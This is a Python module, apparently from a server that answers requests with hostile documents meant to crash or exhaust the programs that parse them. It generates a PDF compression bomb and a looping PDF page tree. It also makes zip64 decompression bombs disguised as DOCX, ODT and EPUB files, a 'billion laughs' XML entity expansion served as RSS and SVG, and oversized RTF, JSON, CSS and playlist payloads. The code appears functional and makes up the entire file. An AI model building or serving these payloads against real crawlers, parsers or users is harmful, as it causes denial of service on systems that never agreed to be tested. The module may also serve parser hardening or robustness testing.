"""Attacks by documents: they unpack to far more than they are, nest, or say they are longer."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from random import Random

from pieces import BOMB, MIB, SPACES, Pieces, page, way_out, whole


def documents(rest: str) -> Pieces:
    """Send documents that unpack to far more than they are."""
    if not rest:
        return page(*(f"/documents/{name}" for name in _DOCUMENTS), way_out("documents"))
    kind, make = _DOCUMENTS[rest[1:]]
    return whole(_made(make), kind)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def _pdf() -> bytes:
    stream = zlib.compress(b"(a) Tj " * (20 * MIB), 9)
    pages = (
        b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages"
        b" /Count 1 /Kids [3 0 R]>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R /Contents 4 0 R>>"
        b" endobj\n4 0 obj <</Length %d /Filter /FlateDecode>> stream\n"
    )
    return pages % len(stream) + stream + b"\nendstream endobj\ntrailer <</Root 1 0 R>>"


def _pdf_loop() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages"
        b" /Count 999999999 /Kids [2 0 R 2 0 R 2 0 R]>> endobj\ntrailer <</Root 1 0 R /Prev 0>>"
    )


def _zip(name: str, first: bytes, size: int = BOMB) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(entry, "w", force_zip64=True) as member:
            for piece in (first, *[SPACES] * size):
                member.write(piece)
    return file.getvalue()


def _members() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for number in range(20_000):
            archive.writestr(zipfile.ZipInfo(f"word/{number}.xml"), b"<a>")
    return file.getvalue()


def _flash() -> bytes:
    body = zlib.compress(SPACES * 100, 9)
    return b"CWS\x0a" + struct.pack("<I", 100 * MIB) + body


def _fields() -> bytes:
    return b"<a " + b"".join(b"a%d='b' " % number for number in range(500_000)) + b"/>"


_RTF, _OLE = b"{\\rtf1 ", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_LAUGHS = (
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(10))
    + "]><rss><channel><item><link>&a10;</link></item></channel></rss>"
).encode()
_DOCUMENTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "bomb.pdf": ("application/pdf", _pdf),
    "loop.pdf": ("application/pdf", _pdf_loop),
    "bomb.docx": (_WORD, lambda: _zip("word/_rels/document.xml.rels", b"<Relationships>")),
    "text.docx": (_WORD, lambda: _zip("word/document.xml", b"<a>")),
    "members.docx": (_WORD, _members),
    "bomb.odt": ("application/vnd.oasis.opendocument.text", lambda: _zip("content.xml", b"<a>")),
    "bomb.epub": ("application/epub+zip", lambda: _zip("META-INF/container.xml", b"<a>")),
    "bomb.swf": ("application/x-shockwave-flash", _flash),
    "bomb.rtf": ("application/rtf", lambda: _RTF + b"{\\field{\\*\\fldinst HYPERLINK " * 300_000),
    "bin.rtf": ("application/rtf", lambda: _RTF + b"\\bin999999999 " * 10_000),
    "random.doc": ("application/msword", lambda: _OLE + Random(5).randbytes(MIB)),
    "laughs.rss": ("application/rss+xml", lambda: _LAUGHS),
    "laughs.svg": ("image/svg+xml", lambda: _LAUGHS),
    "fields.xml": ("application/xml", _fields),
    "strings.json": ("application/json", lambda: b'["/documents' + b"\\u0041" * 500_000 + b'"]'),
    "numbers.json": ("application/json", lambda: b"[" + b"9" * 2_000_000 + b"]"),
    "imports.css": ("text/css", lambda: b"@import url(\\" * 200_000),
    "lines.m3u": ("audio/x-mpegurl", lambda: b"#EXTM3U\n" + b"/documents\n" * 200_000),
    "line.txt": ("text/plain", lambda: b"http://" * 500_000),
}  # fmt: skip
